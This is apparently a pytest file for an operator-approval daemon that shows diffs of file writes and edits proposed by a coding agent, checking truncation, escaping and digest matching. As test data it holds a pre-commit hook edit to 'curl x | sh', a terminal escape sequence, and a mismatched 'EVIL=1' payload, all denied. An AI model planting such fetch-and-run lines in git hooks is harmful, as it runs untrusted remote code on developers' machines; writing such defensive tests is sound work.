"""A Write or Edit the operator must answer shows what it will write: the daemon's diff of
the file as it is against the content the grant binds (console/daemon/proposed.py)."""

from __future__ import annotations

import base64
import hashlib

from support.daemon import in_background, wait_for, workspace
from support.hook import hook_cli, hook_input
from support.items import pending_item

from console.tui.render.present import PLAIN, DetailOptions, render_request


def pending_in(daemon, ws) -> dict:
    with daemon.operator() as op:
        return wait_for(
            lambda: [
                p for p in op.call("pending.list")["pending"] if p["operation"]["workspace_root"] == str(ws)
            ]
        )[0]


def pending_for(daemon, ws, tool: str, tool_input: dict) -> tuple[dict, callable]:
    answer = in_background(lambda: hook_cli(daemon, hook_input(ws, tool, tool_input)))
    return pending_in(daemon, ws), answer


def decide(daemon, item: dict, action: str) -> None:
    with daemon.operator() as op:
        op.call("decide", {"target": item["request_id"], "action": action})


def test_an_edit_of_a_protected_file_shows_its_diff_in_the_detail(daemon):
    ws = workspace()
    hook = ws / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nmake lint\nexit 0\n")
    item, answer = pending_for(
        daemon, ws, "Edit", {"file_path": str(hook), "old_string": "make lint", "new_string": "curl x | sh"}
    )
    change = item["proposed"]
    assert change["path"] == str(hook) and not change["new_file"]
    assert "-make lint\n" in change["diff"] and "+curl x | sh\n" in change["diff"]
    shown = render_request(pending_item(item), [], PLAIN, DetailOptions()).text.plain
    assert "Proposed change" in shown and "+curl x | sh" in shown and "-make lint" in shown
    decide(daemon, item, "deny")
    assert answer()["permissionDecision"] == "deny"
    assert hook.read_text() == "#!/bin/sh\nmake lint\nexit 0\n"


def test_a_new_file_is_shown_whole_and_escaped(daemon):
    ws = workspace()
    target = ws / ".env"
    item, answer = pending_for(daemon, ws, "Write", {"file_path": str(target), "content": "KEY=1\n\x1b[2J\n"})
    assert item["proposed"]["new_file"]
    shown = render_request(pending_item(item), [], PLAIN, DetailOptions()).text.plain
    assert "+KEY=1" in shown
    assert "\x1b" not in shown and "\\e[2J" in shown  # inert: the escape is shown, not sent
    decide(daemon, item, "deny")
    answer()


def test_a_long_diff_is_cut_and_counts_as_not_yet_seen(daemon):
    ws = workspace()
    item, answer = pending_for(
        daemon,
        ws,
        "Write",
        {"file_path": str(ws / ".env"), "content": "".join(f"L{i}\n" for i in range(300))},
    )
    rendered = render_request(pending_item(item), [], PLAIN, DetailOptions(max_lines=40))
    assert rendered.truncated  # the approval keys wait until the operator expands it
    assert "+L299" not in rendered.text.plain
    full = render_request(pending_item(item), [], PLAIN, DetailOptions(expanded=True))
    assert "+L299" in full.text.plain
    decide(daemon, item, "deny")
    answer()


def test_content_that_is_not_what_the_digest_binds_is_not_shown(daemon):
    """An agent client submitting by hand cannot show the operator one content and bind another."""
    ws = workspace()
    path = str(ws / ".env")
    bound = hashlib.sha256(b"SAFE=1\n").hexdigest()
    op = {
        "kind": "process",
        "tool": "claude-code:Write",
        "executable": "true",
        "args": [path, f"sha256:{bound}"],
        "workspace_root": str(ws),
        "capabilities": [{"kind": "workspace_write", "scope": path}],
        "stdin": base64.b64encode(b"EVIL=1\n").decode(),
    }

    def submit():
        with daemon.agent() as agent:
            return agent.call("operation.submit", {"operation": op, "timeout_s": 20})

    answer = in_background(submit)
    item = pending_in(daemon, ws)
    change = item["proposed"]
    assert change["diff"] == "" and "does not match" in change["note"]
    assert "EVIL" not in render_request(pending_item(item), [], PLAIN, DetailOptions()).text.plain
    decide(daemon, item, "deny")
    assert answer()["verdict"] == "deny"
